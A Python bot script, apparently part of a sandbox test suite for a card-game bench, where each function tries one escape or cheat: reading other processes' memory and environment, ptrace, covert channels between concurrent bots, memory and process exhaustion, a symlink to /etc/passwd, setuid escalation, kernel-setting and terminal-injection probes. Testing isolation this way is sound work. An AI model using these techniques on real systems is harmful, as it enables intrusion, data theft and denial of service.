"""A bot that tries one way to cheat, says on standard error what came of it, and then plays on, calling.

    attacker.py ATTACK [JSON]

ATTACK is the name of a function below. It gets the JSON, and returns what it got hold of, or nothing if it failed. What
it leaves for a later game, it finds there; of twins, who play at the same time, the second listens to the first.
"""

import ctypes
import fcntl
import json
import mmap
import os
import socket
import stat
import struct
import subprocess
import sys
import time
from contextlib import suppress

LIBC = ctypes.CDLL(None, use_errno=True)
TWIN_S = 2.0
#: Seconds for which more is held than is allowed; where somebody counts it, it is noticed sooner.
HELD_S = 6.0


def call(name, *arguments):
    """Call a function of the C library; raise what it fails with."""
    found = getattr(LIBC, name)(*arguments)
    if found == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return found


def read_file(path):
    with open(path, "rb") as file:
        return file.read(64)


def read_memory(pid):
    """Read the first bytes of a process's memory."""
    with open(f"/proc/{pid}/maps") as maps:
        start = int(maps.readline().split("-")[0], 16)
    with open(f"/proc/{pid}/mem", "rb") as memory:
        memory.seek(start)
        return memory.read(16)


def read_environment(pid):
    return read_file(f"/proc/{pid}/environ")


def read_command_line(pid):
    return read_file(f"/proc/{pid}/cmdline")


def read_descriptors(pid):
    return [os.readlink(f"/proc/{pid}/fd/{number}") for number in os.listdir(f"/proc/{pid}/fd")]


def steal_input(pid):
    """Open the standard input of another program."""
    os.close(os.open(f"/proc/{pid}/fd/0", os.O_RDONLY | os.O_NONBLOCK))
    return "opened"


def see_processes(_):
    """Look for processes that are not its own."""
    own = {str(os.getpid()), "1", str(os.getppid())}
    return [pid for pid in os.listdir("/proc") if pid.isdigit() and pid not in own]


def trace(pid):
    attach, detach = 16, 17
    call("ptrace", attach, pid, 0, 0)
    os.waitpid(pid, 0)
    call("ptrace", detach, pid, 0, 0)
    return "attached"


def take_descriptor(pid):
    """Take an open file from another process."""
    process = call("syscall", 434, pid, 0)
    os.close(call("syscall", 438, process, 0, 0))
    return "taken"


def slow_down(pid):
    """Have another process run only when nobody else wants to."""
    os.setpriority(os.PRIO_PROCESS, pid, 19)
    return "slowed down"


def send_signal(pid):
    os.kill(pid, 0)
    return "may send signals"


# What is left for a later game.


def leave_file(path):
    path = os.path.expanduser(path)
    if os.path.exists(path):
        return f"found {path}"
    with open(path, "w") as file:
        file.write("left")
    return None


def leave_segment(key):
    """Leave a shared-memory segment of System V."""
    create, exclusive = 0o1000, 0o2000
    try:
        call("shmget", key, 4096, create | exclusive | 0o600)
    except FileExistsError:
        return "found"
    return None


def leave_queue(key):
    """Leave a message queue of System V."""
    create, exclusive = 0o1000, 0o2000
    try:
        call("msgget", key, create | exclusive | 0o600)
    except FileExistsError:
        return "found"
    return None


def leave_key(name):
    """Leave a key in the kernel's keyring of the user."""
    add, search, user_keyring = 248, 10, -4
    ring = ctypes.c_int(user_keyring)
    try:
        call("syscall", 250, search, ring, b"user", name.encode(), 0)
    except OSError:
        call("syscall", add, b"user", name.encode(), b"left", 4, ring)
        return None
    return "found"


def leave_time(path):
    """Change the time of a file of its own folder."""
    if os.stat(path).st_mtime == 1:
        return "found"
    os.utime(path, (1, 1))
    return None


def leave_hint(path):
    """Leave a hint on how a file is written, which stays with it for all who open it."""
    get, put, hint = 1035, 1036, 3
    with open(path, "rb") as file:
        if struct.unpack("Q", fcntl.fcntl(file, get, struct.pack("Q", 0)))[0] == hint:
            return "found"
        fcntl.fcntl(file, put, struct.pack("Q", hint))
    return None


def leave_access_time(path):
    """Read a file of its own folder, whose time of access says so for a day."""
    if os.stat(path).st_atime != 1:
        return "found"
    return None if read_file(path) else "empty"


def leave_posix_queue(name):
    """Leave a message queue of POSIX."""
    try:
        call("mq_open", f"/{name}".encode(), os.O_CREAT | os.O_EXCL | os.O_RDWR, 0o600, None)
    except FileExistsError:
        return "found"
    return None


def leave_daemon(name):
    """Leave a process that has left its session and its parent."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if pid != str(os.getpid()) and name.encode() in read_command_line(pid) and b"sleep" in read_command_line(pid):
            return f"found process {pid}"
    if not os.fork():
        os.setsid()
        if not os.fork():
            os.execv("/bin/sh", ["sh", "-c", f"sleep 60; : {name}"])
        os._exit(0)
    os.wait()
    return None


def leave_page(path):
    """Read a page of a file that nobody else reads, so that the kernel keeps it in memory."""
    size = os.path.getsize(path)
    pages = (ctypes.c_ubyte * (size // mmap.PAGESIZE))()
    LIBC.mmap.restype = ctypes.c_void_p
    with open(path, "rb") as file:
        start = LIBC.mmap(None, ctypes.c_size_t(size), mmap.PROT_READ, mmap.MAP_SHARED, file.fileno(), 0)
        call("mincore", ctypes.c_void_p(start), ctypes.c_size_t(size), pages)
        last = size // mmap.PAGESIZE - 1
        known = pages[last] & 1
        os.pread(file.fileno(), 1, last * mmap.PAGESIZE)
    return "found" if known else None


# What twins say to each other.


def _until(look):
    deadline = time.monotonic() + TWIN_S
    while time.monotonic() < deadline:
        found = look()
        if found:
            return found
        time.sleep(0.02)
    return None


def talk_by_socket(role, name):
    """Say something over an abstract socket."""
    with socket.socket(socket.AF_UNIX) as end:
        if role == "first":
            end.bind(f"\0{name}")
            end.listen()
            end.settimeout(TWIN_S)
            with suppress(TimeoutError):
                end.accept()
            return None
        return _until(lambda: "heard" if end.connect_ex(f"\0{name}") == 0 else None)


def talk_by_lock(role, path):
    """Say something by locking a file that both can read."""
    lock, test = 2, 2 | 4
    descriptor = os.open(path, os.O_RDONLY)
    if role == "first":
        call("flock", descriptor, lock)
        time.sleep(TWIN_S)
        return None

    def look():
        try:
            call("flock", descriptor, test)
        except BlockingIOError:
            return "heard"
        call("flock", descriptor, 8)
        return None

    return _until(look)


def talk_by_watch(role, path):
    """Say something by opening a file that the other watches."""
    if role == "first":
        deadline = time.monotonic() + TWIN_S
        while time.monotonic() < deadline:
            os.close(os.open(path, os.O_RDONLY))
            time.sleep(0.02)
        return None
    watch = call("inotify_init1", os.O_NONBLOCK)
    call("inotify_add_watch", watch, path.encode(), 0x20)

    def look():
        try:
            return "heard" if os.read(watch, 4096) else None
        except BlockingIOError:
            return None

    return _until(look)


def talk_by_lease(role, path):
    """Say something by having a file open: no lease can be had of it then."""
    set_lease, write, unlock = 1024, 1, 2
    if role == "first":
        with open(path, "rb"):
            time.sleep(TWIN_S)
        return None
    time.sleep(TWIN_S / 4)
    with open(path, "rb") as file:
        try:
            call("fcntl", file.fileno(), set_lease, write)
        except BlockingIOError:
            return "heard"
        call("fcntl", file.fileno(), set_lease, unlock)
    return None


def talk_by_loopback(role, port):
    """Say something over a port of loopback."""
    with socket.socket() as end:
        if role == "first":
            end.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            end.bind(("127.0.0.1", port))
            end.listen()
            end.settimeout(TWIN_S)
            with suppress(TimeoutError):
                end.accept()
            return None
        return _until(lambda: "heard" if end.connect_ex(("127.0.0.1", port)) == 0 else None)


def talk_by_record_lock(role, path):
    """Say something by locking a part of a file that both can read: reading locks conflict with no other, but show."""
    get, put, reading, writing = 5, 6, 0, 1
    with open(path, "rb") as file:
        if role == "first":
            fcntl.fcntl(file, put, struct.pack("hhqqi", reading, 0, 0, 1, 0))
            time.sleep(TWIN_S)
            return None

        def look():
            found = fcntl.fcntl(file, get, struct.pack("hhqqi", writing, 0, 0, 1, 0))
            return "heard" if struct.unpack("hhqqi", found)[0] == reading else None

        return _until(look)


def talk_by_device_lock(role, path):
    """Say something by locking a device that all may write to."""
    put, reading, writing = 6, 0, 1
    with open(path, "r+b", buffering=0) as file:
        if role == "first":
            fcntl.fcntl(file, put, struct.pack("hhqqi", writing, 0, 7, 1, 0))
            time.sleep(TWIN_S)
            return None

        def look():
            try:
                fcntl.fcntl(file, put, struct.pack("hhqqi", reading, 0, 7, 1, 0))
            except BlockingIOError:
                return "heard"
            fcntl.fcntl(file, put, struct.pack("hhqqi", 2, 0, 7, 1, 0))
            return None

        return _until(look)


def talk_by_pipe(role, path):
    """Say something through a named pipe that came with its files."""
    pipe = os.open(path, os.O_RDWR | os.O_NONBLOCK)
    if role == "first":
        os.write(pipe, b"said")
        time.sleep(TWIN_S)
        return None

    def look():
        try:
            return os.read(pipe, 16)
        except BlockingIOError:
            return None

    return _until(look)


def open_vsock(_):
    """Open a socket to other virtual machines, and to whoever else is on this one: no namespace holds it."""
    socket.socket(40, socket.SOCK_STREAM).close()
    return "opened"


# What uses the machine up.


def many_processes(count):
    """Have many processes at once."""
    for _ in range(count):
        if not os.fork():
            time.sleep(60)
            os._exit(0)
    time.sleep(HELD_S)
    return f"{count} processes"


def much_memory(megabytes):
    """Take more memory than allowed, in four processes that keep to their limit each, and see whether all live on."""
    started = []
    for _ in range(4):
        started.append(os.fork())
        if not started[-1]:
            held = bytearray(megabytes * 1024 * 1024 // 4)
            held[:: mmap.PAGESIZE] = b"x" * len(held[:: mmap.PAGESIZE])
            time.sleep(60)
            os._exit(0)
    time.sleep(HELD_S)
    return None if any(os.waitpid(pid, os.WNOHANG)[0] for pid in started) else f"{megabytes} MB"


def much_socket_memory(megabytes):
    """Fill sockets that nobody reads, in eight processes: their memory belongs to none."""
    held, started = [], []
    for _ in range(8):
        started.append(os.fork())
        if not started[-1]:
            filled = 0
            while filled < megabytes * 1024 * 1024 // 8:
                held.append(socket.socketpair())
                for end in held[-1]:
                    end.setblocking(False)
                    with suppress(BlockingIOError):
                        while True:
                            filled += end.send(b"x" * 4096)
            time.sleep(60)
            os._exit(0)
    time.sleep(HELD_S)
    return None if any(os.waitpid(pid, os.WNOHANG)[0] for pid in started) else f"{megabytes} MB"


def much_connection_memory(megabytes):
    """Fill connections to itself over loopback, which take more the longer nobody reads them."""
    server, held, filled = socket.create_server(("127.0.0.1", 0)), [], 0
    while filled < megabytes * 1024 * 1024:
        ends = [socket.create_connection(server.getsockname()), server.accept()[0]]
        held += ends
        for end in ends:
            end.setblocking(False)
            for _ in range(3):
                with suppress(BlockingIOError):
                    while True:
                        filled += end.send(b"x" * 65536)
                time.sleep(0.005)
    time.sleep(HELD_S)
    return f"{megabytes} MB"


def much_table_memory(megabytes):
    """Read one byte of every two megabytes of nothing: the kernel needs a page to note where each is."""
    step, huge_pages_off = 2 * 1024 * 1024, 15
    nothing = mmap.mmap(-1, megabytes * 256 * step, flags=mmap.MAP_PRIVATE | 0x4000, prot=mmap.PROT_READ)
    nothing.madvise(huge_pages_off)
    for place in range(0, len(nothing), step):
        nothing[place]
    time.sleep(HELD_S)
    return f"{megabytes} MB"


def much_pinned_memory(megabytes):
    """Put a bit of a huge page into a pipe, and let go of the page: it stays, and belongs to no process."""
    huge, use_huge_pages, anonymous, held = 2 * 1024 * 1024, 14, 0x20, []
    LIBC.mmap.restype = ctypes.c_void_p
    writable, size = mmap.PROT_READ | mmap.PROT_WRITE, ctypes.c_size_t(2 * huge)
    for number in range(megabytes // 2):
        if number % 8 == 0:
            held.append(os.pipe())
        start = LIBC.mmap(None, size, writable, mmap.MAP_PRIVATE | anonymous, -1, ctypes.c_long(0))
        aligned = (start + huge - 1) // huge * huge
        call("madvise", ctypes.c_void_p(start), size, use_huge_pages)
        ctypes.memset(aligned, 1, huge)
        call("vmsplice", held[-1][1], struct.pack("PN", aligned, 4096), ctypes.c_ulong(1), 0)
        call("munmap", ctypes.c_void_p(start), size)
    time.sleep(HELD_S)
    return f"{megabytes} MB"


def endless_output(megabytes):
    """Write a line without end."""
    for _ in range(megabytes):
        os.write(1, b" " * 1024 * 1024)
    return f"{megabytes} MB"


def much_disk(megabytes):
    """Write a large file."""
    with open("large", "wb") as file:
        for _ in range(megabytes):
            file.write(b"x" * 1024 * 1024)
    return f"{megabytes} MB"


def many_files(device):
    """Make many files on the disk of the machine."""
    for number in range(500):
        open(f"file-{number}", "w").close()
    return "500 files" if os.stat(".").st_dev == device else None


def many_empty_files(count):
    """Make empty files without end: they take memory of the kernel, and no space."""
    for number in range(count):
        open(f"file-{number}", "w").close()
    time.sleep(HELD_S)
    return f"{count} files"


def much_unnamed_memory(megabytes):
    """Write to a file without a name, which is memory that belongs to no process."""
    held = os.memfd_create("held")
    for _ in range(megabytes):
        os.write(held, b"x" * 1024 * 1024)
    time.sleep(HELD_S)
    return f"{megabytes} MB"


def many_open_files(count):
    """Open many files."""
    held = [os.open(os.devnull, os.O_RDONLY) for _ in range(count)]
    for each in held:
        os.close(each)
    return f"{count} open files"


# What reaches around.


def plant_link(path):
    """Put a link to a file of the user where the bench will write."""
    os.makedirs(os.path.dirname(path), exist_ok=True)
    os.symlink("/etc/passwd", path)
    return "planted"


def gain_rights(program):
    """Have a program with the bit of its owner run as that."""
    done = subprocess.run([program, "-u"], capture_output=True, text=True, check=False)
    return "ran as root" if done.stdout.strip() == "0" and _no_new_privileges() == "0" else None


def _no_new_privileges():
    with open("/proc/self/status") as file:
        return next(line.split()[1] for line in file if line.startswith("NoNewPrivs"))


def write_device(_):
    """Write to the kernel's log, or make a device."""
    try:
        descriptor = os.open("/dev/kmsg", os.O_WRONLY)
    except OSError:
        os.mknod("device", stat.S_IFCHR | 0o600, os.makedev(1, 3))
        with open("device", "w") as file:
            file.write("x")
        return "made a device"
    os.close(descriptor)
    return "opened /dev/kmsg"


def change_device(path):
    """Change who may use a device of the machine, as its owner may."""
    before = stat.S_IMODE(os.stat(path).st_mode)
    os.chmod(path, before ^ 0o002)
    changed = stat.S_IMODE(os.stat(path).st_mode) != before
    os.chmod(path, before)
    return "changed" if changed else None


def write_settings(_):
    """Open settings of the kernel to write them, with which it runs programs or starts anew."""
    names = ("sys/kernel/core_pattern", "sysrq-trigger", "sys/kernel/modprobe", "sys/vm/drop_caches")
    return [name for name in names if os.access(f"/proc/{name}", os.W_OK)]


def through_others(path):
    """Read a file through the root folder and the open files of the first process, and of its parent."""
    found = []
    for pid in {1, os.getppid()} - {0}:
        ways = ["root", "cwd", *(f"fd/{number}" for number in os.listdir(f"/proc/{pid}/fd"))]
        found += [way for way in ways if os.path.exists(f"/proc/{pid}/{way}{path}")]
    return found


def use_ring(_):
    """Have the kernel do what a filter of system calls does not see (io_uring)."""
    call("syscall", 425, 4, ctypes.create_string_buffer(256))
    return "made a ring"


def stop_kernel(_):
    """Have the kernel wait for us at a page of memory, as exploits do (userfaultfd)."""
    call("syscall", 323, 0)
    return "made one"


def see_machine(_):
    """Look into /sys."""
    return os.listdir("/sys/kernel")[:3]


def type_into_terminal(path):
    """Type a command into the user's terminal."""
    terminal = os.open(path, os.O_RDWR | os.O_NOCTTY)
    os.write(terminal, b"x")
    return "wrote to it"


def new_namespace(_):
    """Become root in a user namespace of its own."""
    call("unshare", 0x10000000)
    return "made one"


def loopback_service(port):
    """Connect to a server on this machine, such as the viewer."""
    with socket.create_connection(("127.0.0.1", port), timeout=2):
        return "connected"


def ask_names(_):
    """Send a question to a server of names."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
        end.sendto(b"\x12\x34\1\0\0\1\0\0\0\0\0\0\0\0\1\0\1", ("192.0.2.1", 53))
    return "sent"


def socket_file(path):
    """Connect to a server by its file, such as an agent that holds keys."""
    with socket.socket(socket.AF_UNIX) as end:
        end.connect(path)
    return "connected"


def main(attack, options="null"):
    sys.stdin.readline()
    given = json.loads(options)
    try:
        found = globals()[attack](*given) if isinstance(given, list) else globals()[attack](given)
        print("GOT", found, file=sys.stderr) if found else print("NOTHING", file=sys.stderr)
    except Exception as error:
        print("NOTHING", type(error).__name__, error, file=sys.stderr)
    sys.stderr.flush()
    print(json.dumps({"type": "hello", "protocol": 1}), flush=True)
    for line in sys.stdin:
        seen = json.loads(line)
        if seen["type"] == "observation":
            kind = "call" if seen["toCall"] else "check"
            print(json.dumps({"type": "action", "id": seen["id"], "kind": kind}), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
